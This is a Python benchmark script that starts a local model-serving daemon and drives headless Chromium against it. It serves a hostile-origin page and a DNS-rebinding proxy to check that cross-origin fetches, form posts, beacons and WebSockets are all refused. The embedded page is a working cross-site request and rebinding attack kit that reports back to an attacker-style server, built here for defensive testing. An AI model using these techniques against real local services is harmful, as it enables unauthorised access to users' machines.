"""Tries what a web page of a stranger gets out of a daemon, with a real browser: a Chromium, headless.

`python benchmarks/faults/browser.py [--browser PATH]`, outside `make test`; the last line is JSON. A page of another
origin tries whatever a browser lets a page try; the same is tried at a server without a guard, or nothing would show
that the browser sends it at all. "Rebound" is a page whose own name leads to the daemon once it is loaded, as in DNS
rebinding.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import shutil
import sys
import tempfile
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any, Self
from urllib.parse import urlsplit

import aiohttp
import tomlkit
from aiohttp import web

from disco_daemon.bench.child import BenchError, child
from disco_daemon.bench.loopback import LoopbackServer

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run", "--disable-dev-shm-usage", "--disable-popup-blocking",
)  # fmt: skip
PATIENCE_S = 120.0
RULES = "MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"

PAGE = """<!doctype html><meta charset="utf-8"><title>evil</title><body><script>
const D = "__TARGET__", MESSAGES = [{role: "user", content: "Hi"}];
const CHAT = JSON.stringify({model: "disco", messages: MESSAGES, max_tokens: 4});
const wait = ms => new Promise(r => setTimeout(r, ms));
const within = p => Promise.race([p, wait(4000).then(() => "nothing came")]);
const seen = r => r.type === "opaque" ? Promise.resolve("opaque") : r.text().then(t => r.status + " " + t.slice(0, 60));
const get = (path, more) => fetch(D + path, more).then(seen);
const post = (type, more) => fetch(D + "/v1/chat/completions",
  Object.assign({method: "POST", body: CHAT, headers: type ? {"Content-Type": type} : {}}, more)).then(seen);
const form = (enctype, name) => new Promise(done => {
  const f = document.createElement("form"), i = document.createElement("iframe"), x = document.createElement("input");
  i.name = "f" + Math.random(); f.target = i.name; f.method = "POST"; f.enctype = enctype;
  f.action = D + "/v1/chat/completions"; x.name = CHAT.slice(0, -1) + ', "x": "'; x.value = '"}'; f.append(x);
  document.body.append(i, f); let first = true;
  i.onload = () => { if (first) { first = false; return; }
    let t = "a frame it cannot read"; try { t = i.contentDocument.body.innerText.slice(0, 60) } catch (e) {} done(t); };
  setTimeout(() => { first = false; f.submit(); }, 50);
});
const element = (tag, attribute, path) => new Promise(done => {
  const e = document.createElement(tag); if (tag === "link") e.rel = "stylesheet";
  e[attribute] = D + path;
  e.onload = () => { let t = "loaded";
    try { t = e.contentDocument.body.innerText.slice(0, 60) || t } catch (x) {} done(t); };
  e.onerror = () => done("error"); document.body.append(e); });
const events = path => new Promise(done => { const e = new EventSource(D + path);
  e.onmessage = m => { e.close(); done("event " + m.data.slice(0, 40)) };
  e.onerror = () => { e.close(); done("error") } });
const socket = path => new Promise(done => { const s = new WebSocket(D.replace("http", "ws") + path);
  s.onopen = () => done("open"); s.onerror = () => done("error") });
const popup = path => new Promise(async done => { const w = window.open(D + path); await wait(1500);
  let t = "a window it cannot read"; try { t = w ? w.document.body.innerText.slice(0, 60) : "no window" } catch (e) {}
  if (w) w.close(); done(t); });
const TRIES = {
  "fetch GET /v1/models": () => get("/v1/models"),
  "fetch GET /v1/models, no-cors": () => get("/v1/models", {mode: "no-cors"}),
  "fetch GET /disco/v1/state": () => get("/disco/v1/state"),
  "fetch POST chat, text/plain": () => post("text/plain"),
  "fetch POST chat, text/plain, no-cors": () => post("text/plain", {mode: "no-cors"}),
  "fetch POST chat, no type, no-cors": () => post("", {mode: "no-cors", body: new Blob([CHAT])}),
  "fetch POST chat, form type": () => post("application/x-www-form-urlencoded"),
  "fetch POST chat, application/json": () => post("application/json"),
  "fetch POST chat, json as no-cors": () => post("application/json", {mode: "no-cors"}),
  "fetch PATCH /disco/v1/settings": () => fetch(D + "/disco/v1/settings", {method: "PATCH", body: "{}",
    headers: {"Content-Type": "application/json"}}).then(seen),
  "sendBeacon POST chat": async () => { const ok = navigator.sendBeacon(D + "/v1/chat/completions", CHAT);
    await wait(300); return ok ? "sent" : "refused" },
  "form POST chat, text/plain": () => form("text/plain"),
  "form POST chat, urlencoded": () => form("application/x-www-form-urlencoded"),
  "form POST chat, multipart": () => form("multipart/form-data"),
  "img /v1/models": () => element("img", "src", "/v1/models"),
  "script /disco/v1/whatif": () => element("script", "src", "/disco/v1/whatif?rate=1&budget=1"),
  "stylesheet /metrics": () => element("link", "href", "/metrics"),
  "iframe /disco/v1/state": () => element("iframe", "src", "/disco/v1/state"),
  "window /disco/v1/history": () => popup("/disco/v1/history"),
  "EventSource /disco/v1/state": () => events("/disco/v1/state"),
  "WebSocket /": () => socket("/"),
  "WebSocket /v1/chat/completions": () => socket("/v1/chat/completions"),
};
(async () => { for (const [name, go] of Object.entries(TRIES)) {
    let saw; try { saw = await within(go()) } catch (e) { saw = "error" }
    await wait(50); const tell = JSON.stringify({name, saw: String(saw), target: D, from: location.origin});
    await fetch("__TOLD__", {method: "POST", mode: "no-cors", body: tell}); }
  await fetch("__TOLD__", {method: "POST", mode: "no-cors", body: JSON.stringify({end: true})}); })();
</script></body>"""


class Evil:
    """The stranger's web server: gives the page, and takes its reports."""

    def __init__(self) -> None:
        self.rows: list[dict[str, str]] = []
        self.ended = asyncio.Event()
        self.page = ""
        self.after: Any = None
        app = web.Application()
        app.router.add_get("/", self._page)
        app.router.add_post("/told", self._take_report)
        self.runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
        self.port = 0

    async def __aenter__(self) -> Self:
        await self.runner.setup()
        await web.TCPSite(self.runner, "127.0.0.1", 0).start()
        self.port = self.runner.addresses[0][1]
        return self

    async def __aexit__(self, *exc_info: object) -> None:
        await self.runner.cleanup()

    async def _page(self, request: web.Request) -> web.Response:
        return web.Response(text=self.page, content_type="text/html", headers={"Connection": "close"})

    async def _take_report(self, request: web.Request) -> web.Response:
        report = json.loads(await request.text())
        if report.get("end"):
            self.ended.set()
        else:
            report["answered"] = await self.after()
            self.rows.append(report)
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})


class Rebinding:
    """A name that leads to the stranger for the page itself, and to the target from then on: bytes as they are."""

    def __init__(self, evil: Evil, target: int) -> None:
        self._evil, self._target = evil, target
        self._server: asyncio.Server | None = None

    async def __aenter__(self) -> int:
        self._server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        return int(self._server.sockets[0].getsockname()[1])

    async def __aexit__(self, *exc_info: object) -> None:
        assert self._server is not None
        self._server.close()

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        first = await reader.read(65536)
        is_page = first.startswith(b"GET / HTTP") and b"upgrade" not in first.lower().split(b"upgrade-insecure")[0]
        port = self._evil.port if is_page else self._target
        there, back = await asyncio.open_connection("127.0.0.1", port)
        back.write(first)
        await asyncio.gather(_pipe(reader, back), _pipe(there, writer), return_exceptions=True)


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    finally:
        writer.close()


# Runs a program until stdin ends: the browser must not outlive this measurement, even if that is killed.
GUARD = """import subprocess, sys
from disco_daemon.system.program import end_with_stdin
program = subprocess.Popen(sys.argv[1:])
end_with_stdin(program.kill)
program.wait()"""


async def browse(browser: str, folder: Path, evil: Evil, url: str) -> list[dict[str, str]]:
    """Open the page, and wait until its last report."""
    evil.rows, evil.ended = [], asyncio.Event()
    argv = [
        sys.executable,
        "-P",
        "-c",
        GUARD,
        browser,
        *FLAGS,
        f"--user-data-dir={folder}",
        f"--host-resolver-rules={RULES}",
        url,
    ]
    quiet, pipe = asyncio.subprocess.DEVNULL, asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(*argv, stdin=pipe, stdout=quiet, stderr=quiet)
    assert process.stdin is not None
    try:
        async with asyncio.timeout(PATIENCE_S):
            await evil.ended.wait()
    except TimeoutError as e:
        msg = f"the page reported {len(evil.rows)} attempts only within {PATIENCE_S:g} s"
        raise BenchError(msg) from e
    finally:
        process.stdin.close()
        await process.wait()
    return evil.rows


@asynccontextmanager
async def daemon(folder: Path, server: LoopbackServer) -> AsyncIterator[str]:
    """A daemon with that server and no device; its address without /v1."""
    config = folder / "config.toml"
    settings = {
        "server": {"base_url": server.url, "model": "loopback", "probe": False},
        "policy": {"name": "all-server"},
    }
    config.write_text(tomlkit.dumps(settings))
    argv = [sys.executable, "-P", "-m", "disco_daemon.cli.main", "up", "--port", "0", "--json"]
    argv += ["--until-eof", "--no-device", "--config", str(config), "--history", str(folder / "history.sqlite")]
    async with child(argv, folder, "daemon") as url:
        yield url.removesuffix("/v1")


async def answers(root: str) -> Counter[str]:
    """Count the requests that the daemon has answered, by status, without those for its metrics."""
    async with aiohttp.ClientSession() as session, session.get(f"{root}/metrics") as response:
        text = await response.text()
    found: Counter[str] = Counter()
    for code, handler, n in re.findall(r'disco_http_requests_total\{code="(\d+)",handler="([^"]*)"\} (\S+)', text):
        found[code] += 0 if (handler, code) == ("/metrics", "200") else int(float(n))
    return found


async def measure(browser: str) -> dict[str, Any]:
    """Make all attempts: at the daemon, at it by a rebound name, and at the server without a guard."""
    found: dict[str, Any] = {}
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="disco-browser-")))
        server = await stack.enter_async_context(LoopbackServer(tokens=4))
        bare = await stack.enter_async_context(LoopbackServer(tokens=4))
        evil = await stack.enter_async_context(Evil())
        root = await stack.enter_async_context(daemon(folder, server))
        switch = await stack.enter_async_context(Rebinding(evil, urlsplit(root).port or 0))
        before = await answers(root)

        async def new_answers() -> str:
            nonlocal before
            now = await answers(root)
            new, before = now - before, now
            return " ".join(f"{n}x{code}" for code, n in sorted(new.items())) or "-"

        evil.after = new_answers
        home, rebound = f"http://evil.test:{evil.port}", f"http://rebound.test:{switch}"
        pages = {"foreign": (home, root), "rebound": (rebound, rebound), "unguarded": (home, bare.url[: -len("/v1")])}
        for kind, (page, target) in pages.items():
            evil.page = PAGE.replace("__TARGET__", target).replace("__TOLD__", f"{home}/told")
            found[kind] = await browse(browser, folder / kind, evil, f"{page}/")
        found |= {"asked_by_pages": len(server.exchanges), "unguarded_asked": len(bare.exchanges)}
        body = {"model": "disco", "messages": [{"role": "user", "content": "Hi"}]}
        session = await stack.enter_async_context(aiohttp.ClientSession())
        async with session.post(f"{root}/v1/chat/completions", json=body) as response:
            found["own_client"] = response.status
    return found


def show(found: dict[str, Any]) -> None:
    """The table."""
    print(f"{'attempt':<40}{'foreign page':<42}{'rebound name':<42}{'server without guard'}")
    rows = zip(found["foreign"], found["rebound"], found["unguarded"], strict=True)
    for foreign, rebound, bare in rows:
        cells = [f"{row['answered']:<10}{row['saw']}"[:40] for row in (foreign, rebound)]
        print(f"{foreign['name']:<40}{cells[0]:<42}{cells[1]:<42}{bare['saw'][:40]}")


def main() -> int:
    """Try, show, judge."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--browser", default=next(filter(None, map(shutil.which, NAMES)), ""))
    args = parser.parse_args()
    if not args.browser:
        print("no Chromium was found: --browser PATH", file=sys.stderr)
        return 2
    found = asyncio.run(measure(args.browser))
    show(found)
    tried = found["foreign"] + found["rebound"]
    got_in = [row["name"] for row in tried if re.search(r"x2\d\d", row["answered"])]
    refused = sum(int(n) for row in tried for n in re.findall(r"(\d+)x4\d\d", row["answered"]))
    shown = found["own_client"] == 200 and found["unguarded_asked"] > 0 and refused >= len(tried)
    ok = shown and not got_in and found["asked_by_pages"] == 0
    counts = {k: found[k] for k in ("asked_by_pages", "own_client", "unguarded_asked")}
    print(json.dumps({"ok": ok, "attempts": len(found["foreign"]), "refused": refused, "got_in": got_in} | counts))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
